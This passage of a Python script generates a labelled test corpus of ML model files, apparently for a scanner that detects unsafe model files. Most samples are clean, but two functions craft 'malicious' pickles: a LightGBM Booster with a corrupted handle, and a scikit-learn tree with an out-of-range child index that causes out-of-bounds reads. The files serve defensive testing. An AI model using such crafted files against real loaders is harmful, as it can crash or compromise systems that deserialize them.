    w("benign", "formats2/onnx-external/weights.bin", np.arange(64, dtype=np.float32).tobytes(), "onnx", "CLEAN: raw ONNX external tensor data named weights.bin")
    w("benign", "formats2/openvino/openvino_model.bin", np.linspace(-1, 1, 64, dtype=np.float32).tobytes(), "onnx", "CLEAN: OpenVINO IR weights (raw floats)")
    w("benign", "formats2/tf/variables/variables.data-00000-of-00001", rng.standard_normal(32).astype(np.float32).tobytes(), "tf", "CLEAN: TensorFlow checkpoint data shard (raw tensors)")
    w("benign", "formats2/tf/variables/variables.index", tf_index_bytes(), "tf", "CLEAN: TensorFlow checkpoint index (leveldb table)")
    w("benign", "formats2/tokenizer/tokenizer.model", sentencepiece_model_bytes(), "text", "CLEAN: sentencepiece tokenizer.model (protobuf)")
    w("benign", "formats2/tokenizer/vocab.json", json.dumps({"<s>": 0, "</s>": 1, "c": 2, "os": 3, "system": 4}).encode(), "text", "CLEAN: BPE vocab.json")
    w("benign", "formats2/tokenizer/generation_config.json", b'{\n  "bos_token_id": 1,\n  "eos_token_id": 2,\n  "do_sample": true\n}\n', "text", "CLEAN: generation_config.json")
    w("benign", "formats2/tokenizer/added_tokens.json", b'{"<|im_start|>": 32000}', "text", "CLEAN: added_tokens.json")
    w("benign", "formats2/index/model.safetensors.index.json", json.dumps({"metadata": {"total_size": 8}, "weight_map": {"w": "model-00001-of-00002.safetensors"}}).encode(), "text", "CLEAN: safetensors shard index")
    w("benign", "formats2/text/requirements.txt", b"torch==2.3.0\nnumpy\n", "text", "CLEAN: requirements.txt")
    w("benign", "formats2/text/model_card.md", b"cos\n(c)opyright notice\nsome text\n", "text", "CLEAN: text starting with pickle-looking lines")
    # real torch state dict with _metadata (OrderedDict subclass attribute set through BUILD)
    sd, _ = g.torch_state_dict()
    sd2 = OrderedDictWithMeta(sd)
    w("benign", "torch2/state-dict-metadata.pt", g.torch_zip(sd2), "torch", "CLEAN: torch state_dict with its _metadata attribute (OrderedDict + BUILD)")
    w("benign", "torch2/optimizer.pt", g.torch_zip({"state": {0: {"step": 3, "exp_avg": sd["layers.0.weight"]}}, "param_groups": [{"lr": 0.001, "betas": (0.9, 0.999), "params": [0, 1], "amsgrad": False, "foreach": None}]}), "torch", "CLEAN: optimizer state in torch.save layout")
    w("benign", "torch2/rng-state.pth", g.torch_zip({"python": (3, tuple(range(5)), None), "numpy": ("MT19937", np.arange(4, dtype=np.uint32), 624, 0, 0.0)}), "torch", "CLEAN: rng_state.pth (python and numpy random states)")


from collections import OrderedDict  # noqa: E402


class OrderedDictWithMeta(OrderedDict):
    """Pickles as collections.OrderedDict with a _metadata attribute, as torch's state_dict does."""

    def __reduce__(self):
        meta = OrderedDict([("", {"version": 1}), ("layers", {"version": 1})])
        return (OrderedDict, (), {"_metadata": meta}, None, iter(self.items()))


def tf_index_bytes() -> bytes:
    # a leveldb-style table: entries then a footer with the table magic (0xdb4775248b80fb57)
    body = b"\x00\x00\x00\x08\x00\x00" + b"\x00" * 26
    footer = b"\x00" * 40 + struct.pack("<Q", 0xDB4775248B80FB57)
    return body + footer


def sentencepiece_model_bytes() -> bytes:
    from google.protobuf.internal import encoder  # noqa: F401

    out = b""
    for piece, score, typ in [("<unk>", 0.0, 2), ("<s>", 0.0, 3), ("</s>", 0.0, 3), ("\u2581the", -3.1, 1), ("c", -5.0, 1)]:
        pb = piece.encode()
        inner = b"\x0a" + bytes([len(pb)]) + pb + b"\x15" + struct.pack("<f", score) + b"\x18" + bytes([typ])
        out += b"\x0a" + bytes([len(inner)]) + inner
    trainer = b"\x2a\x02en" + b"\x18\x05"  # input_format-ish fields; vocab_size=5 (field 3)
    out += b"\x12" + bytes([len(trainer)]) + trainer
    return out


import contextlib  # noqa: E402


@contextlib.contextmanager
def without_fake_torch():
    """generate.py's torch stand-in modules make scipy and jax believe torch is installed: hide them."""
    import sys

    fakes = {k: v for k, v in sys.modules.items() if k == "torch" or k.startswith("torch.")}
    for k in fakes:
        del sys.modules[k]
    try:
        yield
    finally:
        sys.modules.update(fakes)


def write_booster_paths(g):
    import re

    import lightgbm
    from sklearn.datasets import make_classification

    X, y = make_classification(n_samples=60, n_features=4, random_state=0)
    lg = lightgbm.LGBMClassifier(n_estimators=2, num_leaves=4, random_state=0, verbose=-1, n_jobs=1).fit(X, y)
    good = lg.booster_.model_to_string()
    m = re.search(r"left_child=(\S+)", good)
    bad = good[: m.start(1)] + "9" * len(m.group(1)) + good[m.end(1) :]
    state = pa.EMPTY_DICT + pa.MARK + pa.ustr("_handle") + pa.ustr(bad) + pa.ustr("handle") + pa.ustr(good) + pa.SETITEMS
    data = pa.proto(4) + pa.glob("lightgbm.basic", "Booster") + pa.EMPTY_TUPLE + NEWOBJ + state + pa.BUILD + pa.STOP
    g.write("malicious", "boosters2/lightgbm-handle-precedence.pkl", data, "sklearn", "FLAGGED: LightGBM Booster state with a bad _handle (read first by __setstate__) and a good handle after it", stable=False)


def write_keras_zoo(g):
    """Keras 3 models with common layers, compiled, saved as .keras, legacy .h5 and weights."""
    import os
    import tempfile

    import keras
    from keras import layers

    keras.utils.set_random_seed(0)
    models = {}
    models["cnn"] = keras.Sequential([keras.Input((8, 8, 1)), layers.Conv2D(4, 3, activation="relu"), layers.BatchNormalization(), layers.MaxPooling2D(), layers.Dropout(0.2), layers.Flatten(), layers.Dense(3, activation="softmax")])
    a, b = keras.Input((5,), name="a"), keras.Input((3,), name="b")
    x = layers.Concatenate()([layers.Dense(4, activation="gelu")(a), layers.Dense(4, kernel_regularizer=keras.regularizers.L2(0.01))(b)])
    models["functional-two-inputs"] = keras.Model([a, b], layers.Dense(1, activation="sigmoid")(layers.LayerNormalization()(x)))
    models["rnn"] = keras.Sequential([keras.Input((6,), dtype="int32"), layers.Embedding(20, 4), layers.LSTM(4, return_sequences=True), layers.GRU(3), layers.Dense(2)])
    inp = keras.Input((4, 8))
    models["attention"] = keras.Model(inp, layers.GlobalAveragePooling1D()(layers.Add()([inp, layers.MultiHeadAttention(num_heads=2, key_dim=4)(inp, inp)])))
    norm = layers.Normalization()
    norm.adapt(np.linspace(0, 1, 60, dtype=np.float32).reshape(20, 3))
    models["normalization"] = keras.Sequential([keras.Input((3,)), norm, layers.Dense(2, activation=keras.activations.swish), layers.Activation("tanh"), layers.Rescaling(0.5)])
    with tempfile.TemporaryDirectory() as d:
        for name, m in models.items():
            m.compile(optimizer=keras.optimizers.Adam(1e-3), loss=keras.losses.SparseCategoricalCrossentropy(), metrics=["accuracy", keras.metrics.AUC()])
            for ext in ["keras", "h5", "weights.h5"]:
                p = os.path.join(d, f"{name}.{ext}")
                m.save_weights(p) if ext == "weights.h5" else m.save(p)
                with open(p, "rb") as f:
                    g.write("benign", f"keras2/{name}.{ext}", f.read(), "keras", f"CLEAN: Keras 3 {name} model ({ext})", stable=False)


def write_tree_paths(g):
    """A DecisionTree whose node records point outside the tree (Tree.__setstate__ copies them unchecked)."""
    import joblib
    from sklearn.datasets import make_classification
    from sklearn.tree import DecisionTreeClassifier

    X, y = make_classification(n_samples=80, n_features=5, random_state=0)
    m = DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y)
    nodes = m.tree_.__getstate__()["nodes"]
    bad = nodes.copy()
    bad["left_child"][int(np.where(nodes["left_child"] != -1)[0][0])] = 10**6
    buf = io.BytesIO()
    joblib.dump(m, buf)
    for name, data in [("tree-child-out-of-range.joblib", buf.getvalue()), ("tree-child-out-of-range.pkl", pickle.dumps(m, protocol=4))]:
        assert nodes.tobytes() in data
        g.write("malicious", f"sklearn-tree/{name}", data.replace(nodes.tobytes(), bad.tobytes()), "sklearn", "FLAGGED: a scikit-learn Tree node whose child index is outside the tree (predict reads past the node array)", stable=False)


def write_all(g):
    global GEN
    GEN = g
    write_pickle_tricks(g)
    write_joblib_paths(g)
    write_npy_paths(g)
    write_torch_paths(g)
    with without_fake_torch():
        write_keras_paths(g)
        write_keras_zoo(g)
    write_tf_paths(g)
    write_onnx_paths(g)
    write_template_paths(g)
    write_misc(g)
    with without_fake_torch():
        write_booster_paths(g)
        write_tree_paths(g)
    write_benign_zoo(g)
